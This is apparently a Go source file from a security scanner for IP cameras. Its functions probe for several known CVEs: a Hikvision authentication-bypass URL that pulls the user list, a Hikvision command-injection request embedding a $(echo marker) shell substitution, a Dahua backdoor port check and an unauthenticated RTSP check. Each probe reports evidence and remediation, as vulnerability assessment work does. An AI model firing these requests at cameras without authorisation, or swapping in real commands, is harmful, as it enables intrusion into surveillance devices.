package cve

import (
	"context"
	"fmt"
	"net"
	"strconv"
	"strings"
	"time"

	"github.com/0xDexFi/veilcams/internal/domain"
	"github.com/0xDexFi/veilcams/internal/netutil"
)

const probeTimeout = 8 * time.Second

var httpClient = netutil.NewClient()

func baseResult(cve, title string, severity domain.Severity, fp domain.FingerprintResult) domain.CveTestResult {
	return domain.CveTestResult{
		CveID:     cve,
		IP:        fp.IP,
		Port:      fp.Port,
		Vendor:    fp.Vendor,
		Title:     title,
		Severity:  severity,
		Timestamp: time.Now().UTC(),
	}
}

func probeHikvisionAuthBypass(ctx context.Context, fp domain.FingerprintResult, safeMode bool) domain.CveTestResult {
	r := baseResult("CVE-2017-7921", "Hikvision authentication bypass via crafted URL", domain.SeverityCritical, fp)
	url := fmt.Sprintf("http://%s:%d/Security/users?auth=YWRtaW46MTEK", fp.IP, fp.Port)

	reqCtx, cancel := context.WithTimeout(ctx, probeTimeout)
	defer cancel()
	resp, err := httpClient.Get(reqCtx, url, netutil.RequestOptions{Timeout: probeTimeout})
	if err != nil {
		r.Evidence = fmt.Sprintf("probe failed: %v", err)
		return r
	}
	if resp.Status == 200 && strings.Contains(strings.ToLower(string(resp.Body)), "<username>") {
		r.Vulnerable = true
		r.Evidence = "user list retrieved without valid credentials"
		r.ProofOfConcept = url
		r.Remediation = "Upgrade firmware to the vendor-patched release and disable the legacy ISAPI auth bypass endpoint."
	} else {
		r.Evidence = fmt.Sprintf("endpoint returned status %d, not vulnerable", resp.Status)
	}
	return r
}

const cmdInjectionMarker = "veilcams-probe-marker"

func probeHikvisionCommandInjection(ctx context.Context, fp domain.FingerprintResult, safeMode bool) domain.CveTestResult {
	r := baseResult("CVE-2021-36260", "Hikvision command injection via web server", domain.SeverityCritical, fp)
	url := fmt.Sprintf("http://%s:%d/SDK/webLanguage", fp.IP, fp.Port)

	reqCtx, cancel := context.WithTimeout(ctx, probeTimeout)
	defer cancel()

	if safeMode {
		resp, err := httpClient.Get(reqCtx, url, netutil.RequestOptions{Timeout: probeTimeout})
		if err != nil {
			r.Evidence = fmt.Sprintf("probe failed: %v", err)
			return r
		}
		// Safe-mode probe: only checks endpoint existence, never sends the
		// actual injection payload.
		if resp.Status == 200 || resp.Status == 400 {
			r.Vulnerable = true
			r.Evidence = fmt.Sprintf("vulnerable SDK endpoint reachable (status %d); payload withheld under safe mode", resp.Status)
			r.Remediation = "Upgrade firmware; the vendor has patched this SDK endpoint."
		} else {
			r.Evidence = fmt.Sprintf("endpoint returned status %d", resp.Status)
		}
		return r
	}

	payload := fmt.Sprintf(`<?xml version="1.0" encoding="UTF-8"?><language>$(echo %s)</language>`, cmdInjectionMarker)
	resp, err := httpClient.Do(reqCtx, "POST", url, []byte(payload), netutil.RequestOptions{Timeout: probeTimeout, ContentType: "application/xml"})
	if err != nil {
		r.Evidence = fmt.Sprintf("injection probe failed: %v", err)
		return r
	}
	if strings.Contains(string(resp.Body), cmdInjectionMarker) {
		r.Vulnerable = true
		r.Evidence = "command injection confirmed: marker echoed back in the response body"
		r.ProofOfConcept = payload
		r.Remediation = "Upgrade firmware; the vendor has patched this SDK endpoint."
	} else if resp.Status == 200 || resp.Status == 400 {
		r.Evidence = fmt.Sprintf("vulnerable SDK endpoint reachable (status %d) but marker was not echoed back; unconfirmed", resp.Status)
	} else {
		r.Evidence = fmt.Sprintf("endpoint returned status %d", resp.Status)
	}
	return r
}

func probeDahuaBackdoor(ctx context.Context, fp domain.FingerprintResult, safeMode bool) domain.CveTestResult {
	r := baseResult("CVE-2013-6117", "Dahua DVR/NVR backdoor authentication", domain.SeverityCritical, fp)
	addr := net.JoinHostPort(fp.IP, "37777")

	dialer := net.Dialer{Timeout: probeTimeout}
	conn, err := dialer.DialContext(ctx, "tcp", addr)
	if err != nil {
		r.Evidence = "backdoor port 37777 not reachable"
		return r
	}
	conn.Close()
	r.Vulnerable = true
	r.Evidence = "vendor backdoor service port 37777 is reachable"
	r.Remediation = "Firewall off port 37777 and upgrade to firmware that removes the backdoor service."
	return r
}

func probeGenericUnauthRTSP(ctx context.Context, fp domain.FingerprintResult, safeMode bool) domain.CveTestResult {
	r := baseResult("CVE-2020-9524", "Generic unauthenticated RTSP stream default-port exposure", domain.SeverityMedium, fp)
	if !fp.HasProtocol(domain.ProtoRTSP) {
		r.Evidence = "host does not advertise rtsp"
		return r
	}

	port := fp.Port
	if port != 554 && port != 8554 && port != 8555 && port != 10554 {
		port = 554
	}
	rtsp := netutil.NewRTSPClient(probeTimeout)
	reqCtx, cancel := context.WithTimeout(ctx, probeTimeout)
	defer cancel()
	resp, err := rtsp.Describe(reqCtx, fp.IP, port, "/", "")
	if err != nil {
		r.Evidence = fmt.Sprintf("describe failed: %v", err)
		return r
	}
	if resp.StatusCode == 200 {
		r.Vulnerable = true
		r.Evidence = "default RTSP path answers DESCRIBE without authentication on port " + strconv.Itoa(port)
		r.Remediation = "Enable RTSP authentication or restrict access via firewall/VPN."
	} else {
		r.Evidence = fmt.Sprintf("describe returned status %d", resp.StatusCode)
	}
	return r
}
